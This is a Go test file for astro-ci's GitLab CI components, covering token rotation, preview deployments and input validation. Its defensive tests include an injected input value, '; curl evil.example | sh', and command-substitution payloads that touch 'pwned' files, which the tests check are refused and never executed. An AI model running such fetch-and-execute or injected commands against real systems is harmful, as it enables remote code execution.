package gitlabci

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/astro-ci/astro-ci/internal/sandbox"
)

func deployment(st sandbox.State, id string) sandbox.DeploymentState {
	for _, d := range st.Deployments {
		if d.ID == id {
			return d
		}
	}
	return sandbox.DeploymentState{}
}

// scheduleVars: a scheduled pipeline of the default branch.
var scheduleVars = map[string]string{"CI_PIPELINE_SOURCE": "schedule"}

// pushVars: the push pipeline of a branch (new when before is all zeros).
func pushVars(branch, slug, before string) map[string]string {
	return map[string]string{
		"CI_PIPELINE_SOURCE":   "push",
		"CI_COMMIT_BRANCH":     branch,
		"CI_COMMIT_REF_NAME":   branch,
		"CI_COMMIT_REF_SLUG":   slug,
		"CI_COMMIT_BEFORE_SHA": before,
	}
}

// (a) The rotation quick start in a scheduled pipeline rotates
// ASTRO_API_TOKEN and writes it back to the project variable, masked; the
// next scheduled run gets the new value and finds nothing due.
func TestRotateQuickstart(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "quickstart-rotate.gitlab-ci.yml")
	w.setProjectVariable("ASTRO_API_TOKEN", w.sb["ASTRO_API_TOKEN"])
	scope := w.sb["ASTRO_SANDBOX_GITLAB_PROJECT"] + " [*]"
	before := w.state()
	old, ok := variable(before, scope, "ASTRO_API_TOKEN")
	if !ok || !old.Valid || old.TokenID != w.sb["ASTRO_SANDBOX_ADMIN_TOKEN_ID"] {
		t.Fatalf("seeded variable: %+v", old)
	}

	// A push pipeline does not rotate: the job is not in it.
	w.syncVariables()
	r := w.gcl(pushVars("main", "main", "1111111111111111111111111111111111111111"), "--list")
	if r.code != 0 || strings.Contains(r.out, "astro-ci-rotate") {
		t.Fatalf("push pipeline lists the rotate job (rules: schedules only):\n%s", r.out)
	}

	r = w.gcl(scheduleVars)
	if r.code != 0 || !passed(r.out, "astro-ci-rotate") {
		t.Fatalf("scheduled pipeline: exit %d\n%s", r.code, r.out)
	}
	st := w.state()
	nv, ok := variable(st, scope, "ASTRO_API_TOKEN")
	switch {
	case !ok:
		t.Fatalf("no project variable ASTRO_API_TOKEN after rotation:\n%s", dump(st))
	case !nv.Valid:
		t.Errorf("ASTRO_API_TOKEN holds a value Astro does not accept: %+v", nv)
	case nv.TokenID == old.TokenID || nv.Fingerprint == old.Fingerprint:
		t.Errorf("ASTRO_API_TOKEN was not rotated: %+v", nv)
	case !strings.Contains(nv.Note, "masked"):
		t.Errorf("ASTRO_API_TOKEN is not masked: %+v", nv)
	}
	// Zero downtime by default: the component's grace (1h) keeps the
	// superseded token valid for jobs that already read it; a later run
	// deletes it.
	if _, ok := tokenByID(st, old.TokenID); !ok {
		t.Errorf("the default grace keeps the superseded token %s, but it is gone", old.TokenID)
	}
	if tk, ok := tokenByID(st, nv.TokenID); !ok || tk.Name != "astro-ci admin" {
		t.Errorf("new token %s: %+v (want the same name as the old one)", nv.TokenID, tk)
	}

	// The next schedule reads the rotated variable and has nothing to do.
	w.syncVariables()
	r = w.gcl(scheduleVars)
	if r.code != 0 || !passed(r.out, "astro-ci-rotate") {
		t.Fatalf("second scheduled pipeline: exit %d\n%s", r.code, r.out)
	}
	again, _ := variable(w.state(), scope, "ASTRO_API_TOKEN")
	if again.Fingerprint != nv.Fingerprint || !again.Valid {
		t.Errorf("second run changed the variable: %+v → %+v", nv, again)
	}
	if _, ok := tokenByID(w.state(), old.TokenID); !ok {
		t.Errorf("a run within the grace hour deleted the superseded token %s", old.TokenID)
	}
}

// (b) The preview quick start: the first push of a branch creates the
// preview and its review-scoped token; a later push (whose jobs GitLab hands
// the review-scoped ASTRO_API_TOKEN — the preview's own token) updates it;
// the stop job deletes preview, token and variable.
func TestPreviewQuickstart(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "quickstart-preview.gitlab-ci.yml")
	// As the README says: astro-ci's own credential in ASTRO_CI_API_TOKEN,
	// since review/* jobs receive the review-scoped ASTRO_API_TOKEN.
	w.setProjectVariable("ASTRO_API_TOKEN", w.sb["ASTRO_API_TOKEN"])
	w.setProjectVariable("ASTRO_CI_API_TOKEN", w.sb["ASTRO_API_TOKEN"])
	project := w.sb["ASTRO_SANDBOX_GITLAB_PROJECT"]
	const branch, slug = "feature/orders-dag", "feature-orders-dag"
	reviewScope := project + " [review/" + slug + "]"
	const deploy, stop = "astro-ci-preview", "astro-ci-preview-stop"

	w.syncVariables()
	r := w.gcl(pushVars(branch, slug, zeroSHA))
	if r.code != 0 || !passed(r.out, deploy) {
		t.Fatalf("first push: exit %d\n%s", r.code, r.out)
	}
	if ran(r.out, stop) {
		t.Fatalf("the stop job ran in the pipeline; it must be manual:\n%s", r.out)
	}
	st := w.state()
	var previews []string
	for _, d := range st.Deployments {
		if strings.Contains(d.Description, "[astro-ci preview ") {
			previews = append(previews, d.ID)
		}
	}
	if len(previews) != 1 {
		t.Fatalf("want 1 preview Deployment, got %d:\n%s", len(previews), dump(st))
	}
	pv, ok := variable(st, reviewScope, "ASTRO_API_TOKEN")
	if !ok || !pv.Valid || !strings.Contains(pv.Note, "masked") {
		t.Fatalf("review-scoped ASTRO_API_TOKEN: %+v, %v\n%s", pv, ok, dump(st))
	}
	if tk, ok := tokenByID(st, pv.TokenID); !ok || tk.Scope != "DEPLOYMENT" || tk.EntityID != previews[0] {
		t.Errorf("the review-scoped token is not the preview's Deployment token: %+v", tk)
	}
	// With code: production's image (copied, same digest) and the
	// repository's DAGs, in one deploy.
	prod, code := deployment(st, w.sb["ASTRO_SANDBOX_DEPLOYMENT_ID"]), deployment(st, previews[0])
	if len(code.Deploys) != 1 || code.Deploys[0].Type != "IMAGE_AND_DAG" || code.ImageDigest == "" || code.ImageDigest != prod.ImageDigest ||
		!slices.Contains(code.Deploys[0].Files, "dags/orders.py") || !code.IsDagDeployEnabled {
		t.Fatalf("preview code: %+v (production %+v)", code, prod)
	}
	// The dotenv report: PREVIEW_ID and PREVIEW_URL for environment:url,
	// the deploy and whether an image build is needed.
	env, err := os.ReadFile(filepath.Join(w.repo, ".gitlab-ci-local", "artifacts", deploy, ".gitlab-ci-reports", "dotenv", "preview.env"))
	if err != nil {
		t.Fatalf("dotenv report: %v\n%s", err, r.out)
	}
	if !strings.Contains(string(env), "PREVIEW_URL=https://") {
		t.Errorf("preview.env lacks PREVIEW_URL:\n%s", env)
	}
	for _, want := range []string{"PREVIEW_ID=" + previews[0], "DEPLOY_ID=" + code.Deploys[0].ID, "DAG_TARBALL_VERSION=" + code.DagTarballVersion, "IMAGE_BUILD_REQUIRED=false"} {
		if !strings.Contains(string(env), want+"\n") {
			t.Errorf("preview.env lacks %s:\n%s", want, env)
		}
	}

	// A later push changes the DAG: jobs of review/feature-orders-dag now
	// receive the preview's token as ASTRO_API_TOKEN; the component acts
	// with ASTRO_CI_API_TOKEN, finds the preview again and deploys the DAGs
	// to it (a DAG-only deploy; no new Deployment).
	if err := os.WriteFile(filepath.Join(w.repo, "dags", "orders.py"), []byte("from airflow import DAG  # pushed\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	// (Not committed: the pipeline includes the components at HEAD.)
	w.syncVariables()
	r = w.gcl(pushVars(branch, slug, "2222222222222222222222222222222222222222"))
	if r.code != 0 || !passed(r.out, deploy) {
		t.Fatalf("second push: exit %d\n%s", r.code, r.out)
	}
	st = w.state()
	n := 0
	for _, d := range st.Deployments {
		if strings.Contains(d.Description, "[astro-ci preview ") {
			n++
		}
	}
	if n != 1 {
		t.Fatalf("second push: %d previews, want the same one\n%s", n, dump(st))
	}
	code = deployment(st, previews[0])
	if len(code.Deploys) != 2 || code.Deploys[1].Type != "DAG_ONLY" || code.Deploys[1].DagTarballVersion != code.DagTarballVersion {
		t.Fatalf("second push: preview code %+v", code)
	}
	env, _ = os.ReadFile(filepath.Join(w.repo, ".gitlab-ci-local", "artifacts", deploy, ".gitlab-ci-reports", "dotenv", "preview.env"))
	if !strings.Contains(string(env), "DEPLOY_ID="+code.Deploys[1].ID+"\n") {
		t.Errorf("second push: preview.env is not current:\n%s", env)
	}
	// Schedules run the prune job, not the deploy job.
	if r := w.gcl(scheduleVars, "--list"); !strings.Contains(r.out, "astro-ci-preview-prune") || strings.Contains(r.out, deploy+" ") {
		t.Errorf("a scheduled pipeline lists:\n%s", r.out)
	}
	if r := w.gcl(pushVars(branch, slug, zeroSHA), "--list"); strings.Contains(r.out, "astro-ci-preview-prune") {
		t.Errorf("a push pipeline lists the prune job:\n%s", r.out)
	}

	// Why ASTRO_CI_API_TOKEN: without it the stop job acts with the preview's
	// own token, which cannot manage previews — it fails before it changes
	// anything: the preview, its token and the review variable that holds
	// it all stay for a rerun.
	w.syncVariables("ASTRO_CI_API_TOKEN")
	r = w.gcl(pushVars(branch, slug, zeroSHA), stop)
	if !failed(r.out, stop) || !strings.Contains(jobLog(r.out, stop), "nothing was changed") {
		t.Fatalf("stop job with the review-scoped token only: want a failure\n%s", r.out)
	}
	if _, ok := variable(w.state(), reviewScope, "ASTRO_API_TOKEN"); !ok {
		t.Fatal("a failed stop job removed the review variable")
	}
	if st := w.state(); deployment(st, previews[0]).ID == "" {
		t.Fatalf("a failed stop job deleted the preview:\n%s", r.out)
	} else if _, ok := tokenByID(st, pv.TokenID); !ok {
		t.Fatalf("a failed stop job deleted the preview's token:\n%s", r.out)
	}

	// GitLab runs the stop job (branch deleted, environment stopped,
	// auto_stop_in): here by name, with the old pipeline's variables.
	w.syncVariables()
	r = w.gcl(pushVars(branch, slug, zeroSHA), stop)
	if r.code != 0 || !passed(r.out, stop) {
		t.Fatalf("stop job: exit %d\n%s", r.code, r.out)
	}
	if !strings.Contains(jobLog(r.out, stop), "deleted") {
		t.Errorf("stop job log:\n%s", jobLog(r.out, stop))
	}
	st = w.state()
	for _, d := range st.Deployments {
		if d.ID == previews[0] {
			t.Errorf("preview %s still exists after the stop job", d.ID)
		}
	}
	if v, ok := variable(st, reviewScope, "ASTRO_API_TOKEN"); ok {
		t.Errorf("review-scoped variable still there: %+v", v)
	}
	if _, ok := tokenByID(st, pv.TokenID); ok {
		t.Errorf("preview token %s still exists", pv.TokenID)
	}
	if v, ok := variable(st, project+" [*]", "ASTRO_API_TOKEN"); !ok || !v.Valid {
		t.Errorf("the project-wide ASTRO_API_TOKEN was touched: %+v", v)
	}
}

// (c) Inputs GitLab rejects are rejected before any job runs, with GitLab's
// error, and nothing changes.
func TestInputValidation(t *testing.T) {
	t.Parallel()
	cases := []struct {
		name, example, from, to, want string
	}{
		{"strategy not an option", "quickstart-rotate.gitlab-ci.yml", "strategy: overlap", "strategy: sideways",
			"`strategy` input: `sideways` cannot be used because it is not in the list of allowed options"},
		{"duration regex", "quickstart-rotate.gitlab-ci.yml", "if-expires-within: 14d", "if-expires-within: 2 weeks",
			"`if-expires-within` input: `2 weeks` does not match required regex"},
		{"boolean", "quickstart-rotate.gitlab-ci.yml", "strategy: overlap", "dry-run: \"yes\"",
			"`dry-run` input: provided value is not a boolean"},
		{"array", "quickstart-rotate.gitlab-ci.yml", "strategy: overlap", "rules: always",
			"`rules` input: provided value is not a array"},
		{"required input", "quickstart-preview.gitlab-ci.yml", "base-deployment: production", "wait: true",
			"`base-deployment` input: required value has not been provided"},
		{"number", "quickstart-preview.gitlab-ci.yml", "base-deployment: production", "base-deployment: production\n      token-expiry-days: \"30\"",
			"`token-expiry-days` input: provided value is not a number"},
		{"shell in an input", "quickstart-preview.gitlab-ci.yml", "auto-stop-in: 1 week", "auto-stop-in: 1 week; curl evil.example | sh",
			"`auto-stop-in` input: `1 week; curl evil.example | sh` does not match required regex"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, c.example)
			w.setConfig(func(s string) string {
				if !strings.Contains(s, c.from) {
					t.Fatalf("%s has no %q", c.example, c.from)
				}
				return strings.Replace(s, c.from, c.to, 1)
			})
			w.setProjectVariable("ASTRO_API_TOKEN", w.sb["ASTRO_API_TOKEN"])
			w.syncVariables()
			before := dump(w.state())
			vars := scheduleVars
			if strings.Contains(c.example, "preview") {
				vars = pushVars("feature/x", "feature-x", zeroSHA)
			}
			r := w.gcl(vars)
			if r.code == 0 {
				t.Fatalf("gitlab-ci-local accepted the configuration:\n%s", r.out)
			}
			if !strings.Contains(r.out, "This GitLab CI configuration is invalid") || !strings.Contains(r.out, c.want) {
				t.Errorf("want GitLab's error %q, got:\n%s", c.want, r.out)
			}
			if strings.Contains(r.out, "starting shell") {
				t.Errorf("a job started:\n%s", r.out)
			}
			if after := dump(w.state()); after != before {
				t.Errorf("the sandbox changed:\n%s\n→\n%s", before, after)
			}
		})
	}
}

// The scheduled-rotation example: the token report (allowed to fail — the
// sandbox's deploy-bot expires within 3 days) and the rotation with a day of
// grace; only schedules with SCHEDULE_TASK=astro-rotate run it.
func TestScheduledRotationExample(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "scheduled-rotation.gitlab-ci.yml")
	w.setProjectVariable("ASTRO_API_TOKEN", w.sb["ASTRO_API_TOKEN"])
	w.syncVariables()
	scope := w.sb["ASTRO_SANDBOX_GITLAB_PROJECT"] + " [*]"

	r := w.gcl(scheduleVars, "--list")
	if strings.Contains(r.out, "astro-ci-rotate") || strings.Contains(r.out, "astro-ci-check") {
		t.Fatalf("a schedule without SCHEDULE_TASK lists the jobs:\n%s", r.out)
	}
	r = w.gcl(map[string]string{"CI_PIPELINE_SOURCE": "schedule", "SCHEDULE_TASK": "astro-rotate"})
	if r.code != 0 || !passed(r.out, "astro-ci-rotate") || !failed(r.out, "astro-ci-check") {
		t.Fatalf("exit %d; want astro-ci-check failed (allowed) and astro-ci-rotate passed:\n%s", r.code, r.out)
	}
	if log := jobLog(r.out, "astro-ci-check"); !strings.Contains(log, "deploy-bot") {
		t.Errorf("the report does not name deploy-bot:\n%s", log)
	}
	st := w.state()
	v, ok := variable(st, scope, "ASTRO_API_TOKEN")
	if !ok || !v.Valid || v.TokenID == w.sb["ASTRO_SANDBOX_ADMIN_TOKEN_ID"] {
		t.Fatalf("ASTRO_API_TOKEN after rotation: %+v\n%s", v, dump(st))
	}
	if _, ok := tokenByID(st, w.sb["ASTRO_SANDBOX_ADMIN_TOKEN_ID"]); !ok {
		t.Errorf("grace 1d: the superseded token must still exist")
	}
}

// The preview-lifecycle example in a merge request pipeline: the preview is
// waited for until HEALTHY, with the branch's DAGs; the stop job removes it.
// (build-image needs Docker and the astro CLI: only listed, not run.)
func TestPreviewLifecycleExample(t *testing.T) {
	t.Parallel()
	// wait: true — astro-ci polls every 10 seconds; the sandbox's previews
	// turn HEALTHY after a second, so this job takes about 10 seconds.
	w := newWorld(t, "preview-lifecycle.gitlab-ci.yml")
	w.setProjectVariable("ASTRO_CI_API_TOKEN", w.sb["ASTRO_API_TOKEN"])
	w.setProjectVariable("WAREHOUSE_PASSWORD", "preview-warehouse-pw-0001")
	w.syncVariables()
	const branch, slug = "fix/late-dags", "fix-late-dags"
	mr := map[string]string{
		"CI_PIPELINE_SOURCE":                   "merge_request_event",
		"CI_MERGE_REQUEST_IID":                 "7",
		"CI_MERGE_REQUEST_SOURCE_BRANCH_NAME":  branch,
		"CI_MERGE_REQUEST_SOURCE_PROJECT_ID":   w.projectID(),
		"CI_MERGE_REQUEST_SOURCE_PROJECT_PATH": w.sb["ASTRO_SANDBOX_GITLAB_PROJECT"],
		"CI_COMMIT_REF_NAME":                   branch,
		"CI_COMMIT_REF_SLUG":                   slug,
		"CI_COMMIT_BEFORE_SHA":                 zeroSHA,
	}
	// Merge request pipelines have no CI_COMMIT_BRANCH.
	unset := []string{"--unset-variable", "CI_COMMIT_BRANCH"}

	r := w.gcl(mr, append(unset, "astro-ci-preview")...)
	if r.code != 0 || !passed(r.out, "astro-ci-preview") {
		t.Fatalf("preview job: exit %d\n%s", r.code, r.out)
	}
	env, err := os.ReadFile(filepath.Join(w.repo, ".gitlab-ci-local", "artifacts", "astro-ci-preview", ".gitlab-ci-reports", "dotenv", "preview.env"))
	if !strings.Contains(jobLog(r.out, "astro-ci-preview"), "is HEALTHY after") {
		t.Errorf("wait: true — no wait in the job log:\n%s", jobLog(r.out, "astro-ci-preview"))
	}
	if err != nil || !strings.Contains(string(env), "PREVIEW_STATUS=HEALTHY") || !strings.Contains(string(env), "IMAGE_BUILD_REQUIRED=false") {
		t.Errorf("wait: true — preview.env: %v\n%s", err, env)
	}
	if _, ok := variable(w.state(), w.sb["ASTRO_SANDBOX_GITLAB_PROJECT"]+" [review/"+slug+"]", "ASTRO_API_TOKEN"); !ok {
		t.Errorf("no review-scoped ASTRO_API_TOKEN:\n%s", dump(w.state()))
	}

	r = w.gcl(mr, append(unset, "--list")...)
	for _, job := range []string{"astro-ci-preview", "astro-ci-preview-stop", "build-image"} {
		if !strings.Contains(r.out, job) {
			t.Errorf("merge request pipeline does not list %s:\n%s", job, r.out)
		}
	}
	fork := map[string]string{}
	for k, v := range mr {
		fork[k] = v
	}
	fork["CI_MERGE_REQUEST_SOURCE_PROJECT_ID"] = "999999"
	if r := w.gcl(fork, append(unset, "--list")...); strings.Contains(r.out, "astro-ci-preview") {
		t.Errorf("a merge request from a fork lists the preview jobs:\n%s", r.out)
	}

	w.syncVariables()
	r = w.gcl(mr, append(unset, "astro-ci-preview-stop")...)
	if r.code != 0 || !passed(r.out, "astro-ci-preview-stop") {
		t.Fatalf("stop job: exit %d\n%s", r.code, r.out)
	}
	st := w.state()
	for _, d := range st.Deployments {
		if strings.Contains(d.Description, "[astro-ci preview ") {
			t.Errorf("preview left: %+v", d)
		}
	}
	for _, v := range st.GitLabVariables {
		if strings.Contains(v.Scope, "review/") {
			t.Errorf("review variable left: %+v", v)
		}
	}
}

// The fan-out example: the admin token rotated in place (grace 1d) and
// deploy-bot rotated into a group variable and an environment-scoped project
// variable.
func TestFanoutExample(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "org-fanout.gitlab-ci.yml")
	w.setProjectVariable("ASTRO_API_TOKEN", w.sb["ASTRO_API_TOKEN"])
	w.syncVariables()
	r := w.gcl(scheduleVars)
	if r.code != 0 || !passed(r.out, "astro-ci-admin-rotate") || !passed(r.out, "astro-ci-deploy-bot-rotate") {
		t.Fatalf("fan-out: exit %d\n%s", r.code, r.out)
	}
	st := w.state()
	seen := map[string]bool{}
	for _, v := range st.GitLabVariables {
		if v.Name != "ASTRO_DEPLOY_TOKEN" {
			continue
		}
		seen[v.Scope] = true
		if !v.Valid || !strings.Contains(v.Note, "masked") {
			t.Errorf("%s %s: %+v", v.Scope, v.Name, v)
		}
		if tk, ok := tokenByID(st, v.TokenID); !ok || tk.Name != "deploy-bot" || tk.ID == w.sb["ASTRO_SANDBOX_DEPLOY_TOKEN_ID"] {
			t.Errorf("%s holds %+v, want the new deploy-bot", v.Scope, tk)
		}
	}
	for _, s := range []string{"acme/data [*]", w.sb["ASTRO_SANDBOX_GITLAB_PROJECT"] + " [production]"} {
		if !seen[s] {
			t.Errorf("no ASTRO_DEPLOY_TOKEN in %s:\n%s", s, dump(st))
		}
	}
	if _, ok := tokenByID(st, w.sb["ASTRO_SANDBOX_DEPLOY_TOKEN_ID"]); !ok {
		t.Errorf("the superseded deploy-bot token is gone: the default grace (1h) keeps it for jobs that already read it")
	}
	if v, ok := variable(st, w.sb["ASTRO_SANDBOX_GITLAB_PROJECT"]+" [*]", "ASTRO_API_TOKEN"); !ok || !v.Valid || v.TokenID == w.sb["ASTRO_SANDBOX_ADMIN_TOKEN_ID"] {
		t.Errorf("admin token not rotated: %+v", v)
	}
}

// Inputs are data: shell syntax in free-text inputs (no regex) reaches
// astro-ci as the value of its variable and is refused there; no shell ever
// runs it.
func TestInputsNeverReachAShell(t *testing.T) {
	t.Parallel()
	payloads := func(n string) string {
		return "$(touch pwned-" + n + "a) `touch pwned-" + n + "b`; touch pwned-" + n + "c"
	}
	cases := []struct {
		example, from, to, job string
		vars                   map[string]string
	}{
		{"quickstart-rotate.gitlab-ci.yml", "strategy: overlap", "targets: '" + payloads("1") + "'", "astro-ci-rotate", scheduleVars},
		{"quickstart-preview.gitlab-ci.yml", "base-deployment: production", "base-deployment: 'production" + payloads("2") + "'", "astro-ci-preview", pushVars("feature/x", "feature-x", zeroSHA)},
		{"quickstart-preview.gitlab-ci.yml", "auto-stop-in: 1 week", "token-targets: '" + payloads("3") + "'", "astro-ci-preview", pushVars("feature/x", "feature-x", zeroSHA)},
	}
	for _, c := range cases {
		t.Run(c.example+" "+strings.Fields(c.to)[0], func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, c.example)
			w.setConfig(func(s string) string { return strings.Replace(s, c.from, c.to, 1) })
			w.setProjectVariable("ASTRO_API_TOKEN", w.sb["ASTRO_API_TOKEN"])
			w.setProjectVariable("ASTRO_CI_API_TOKEN", w.sb["ASTRO_API_TOKEN"])
			w.syncVariables()
			before := dump(w.state())
			r := w.gcl(c.vars)
			if !ran(r.out, c.job) || !failed(r.out, c.job) {
				t.Fatalf("want %s to run and fail (astro-ci refuses the value):\n%s", c.job, r.out)
			}
			matches, _ := filepath.Glob(filepath.Join(w.repo, "pwned-*"))
			if len(matches) > 0 {
				t.Fatalf("an input ran as shell code: %v\n%s", matches, r.out)
			}
			if !strings.Contains(jobLog(r.out, c.job), "touch pwned-") {
				t.Errorf("astro-ci's error does not quote the value it refused:\n%s", jobLog(r.out, c.job))
			}
			if after := dump(w.state()); after != before {
				t.Errorf("the sandbox changed:\n%s\n→\n%s", before, after)
			}
		})
	}
}

// The catalog project's own pipeline (gitlab/.gitlab-ci.yml): it includes
// every component at the commit, checks the templates, and on a release tag
// checks that the default image is that version.
func TestCatalogPipeline(t *testing.T) {
	t.Parallel()
	tl := needTools(t)
	gcl := func(repo string, args ...string) run {
		w := &world{t: t, tools: tl, repo: repo, home: t.TempDir(), leaks: newLeaks(t), sb: map[string]string{}}
		return w.gclRaw(args...)
	}

	repo := newCatalogRepo(t, nil)
	r := gcl(repo)
	if r.code != 0 || !passed(r.out, "templates") {
		t.Fatalf("branch pipeline: exit %d\n%s", r.code, r.out)
	}
	for _, job := range []string{"astro-ci-rotate", "astro-ci-check", "astro-ci-preview"} {
		if strings.Contains(r.out, job) {
			t.Errorf("the catalog pipeline runs %s:\n%s", job, r.out)
		}
	}
	r = gcl(repo, "--list", "--variable", "CI_COMMIT_TAG=1.0.0", "--unset-variable", "CI_COMMIT_BRANCH")
	for _, job := range []string{"templates", "release-image", "release"} {
		if !strings.Contains(r.out, job) {
			t.Errorf("tag pipeline lacks %s:\n%s", job, r.out)
		}
	}
	// The templates default to the image of release 1.0.0.
	if r := gcl(repo, "templates", "--variable", "CI_COMMIT_TAG=1.0.0", "--unset-variable", "CI_COMMIT_BRANCH"); r.code != 0 {
		t.Errorf("tag 1.0.0: exit %d\n%s", r.code, r.out)
	}
	if r := gcl(repo, "templates", "--variable", "CI_COMMIT_TAG=1.0.1", "--unset-variable", "CI_COMMIT_BRANCH"); r.code == 0 || !strings.Contains(r.out, "the default image is not astro-ci:v1.0.1") {
		t.Errorf("tag 1.0.1 with 1.0.0 images: exit %d\n%s", r.code, r.out)
	}

	// The guard catches an input in a script line.
	bad := newCatalogRepo(t, func(dir string) {
		p := filepath.Join(dir, "templates", "rotate.yml")
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		s := strings.Replace(string(b), "    - astro-ci token rotate", "    - astro-ci token rotate --strategy $[[ inputs.strategy ]]", 1)
		if err := os.WriteFile(p, []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	})
	if r := gcl(bad, "templates"); r.code == 0 || !strings.Contains(r.out, "an input is interpolated") {
		t.Errorf("the guard missed an input in a script line: exit %d\n%s", r.code, r.out)
	}
}

// GitLab refuses unknown input keys and GitLab validates every input;
// gitlab-ci-local does neither, so the examples are checked against the
// templates' spec:inputs here (with js-yaml, which gitlab-ci-local brings).
func TestExampleInputsAreDeclared(t *testing.T) {
	t.Parallel()
	tl := needTools(t)
	examples, err := filepath.Glob(filepath.Join(repoRoot, "docs", "examples", "gitlab", "*.gitlab-ci.yml"))
	if err != nil || len(examples) < 5 {
		t.Fatalf("examples: %v %v", examples, err)
	}
	examples = append(examples, filepath.Join(repoRoot, "gitlab", ".gitlab-ci.yml"))
	modules := filepath.Join(filepath.Dir(filepath.Dir(tl.gcl)))
	cmd := exec.Command("node", append([]string{filepath.Join("testdata", "inputs.js"), filepath.Join(repoRoot, "gitlab", "templates")}, examples...)...)
	cmd.Env = append(os.Environ(), "NODE_PATH="+modules)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
}

// The README shows the two quick starts exactly as the tested files.
func TestReadmeShowsQuickstarts(t *testing.T) {
	t.Parallel()
	readme, err := os.ReadFile(filepath.Join(repoRoot, "gitlab", "README.md"))
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range []string{"quickstart-rotate.gitlab-ci.yml", "quickstart-preview.gitlab-ci.yml"} {
		b, err := os.ReadFile(filepath.Join(repoRoot, "docs", "examples", "gitlab", f))
		if err != nil {
			t.Fatal(err)
		}
		if n := strings.Count(strings.TrimSpace(string(b)), "\n") + 1; n != 5 {
			t.Errorf("%s has %d lines, the README promises a 5-line include", f, n)
		}
		if !strings.Contains(string(readme), "```yaml\n"+string(b)+"```\n") {
			t.Errorf("gitlab/README.md does not show %s verbatim:\n%s", f, b)
		}
	}
}
